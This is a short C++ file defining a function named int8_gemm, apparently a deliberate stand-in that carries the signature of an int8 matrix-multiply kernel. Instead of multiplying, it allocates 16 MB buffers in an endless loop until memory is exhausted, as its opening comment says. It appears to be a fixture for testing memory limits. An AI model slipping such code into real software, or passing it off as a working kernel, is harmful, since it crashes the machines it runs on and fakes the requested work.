// It takes memory until there is none.
#include <cstdint>
#include <vector>

extern "C" void int8_gemm(const int8_t *a, const float *a_scale, const int8_t *b, const float *b_scale, float *out,
                          int64_t m, int64_t n, int64_t k) {
    std::vector<std::vector<char>> hoard;
    for (;;) hoard.emplace_back(16 << 20, 1);
}
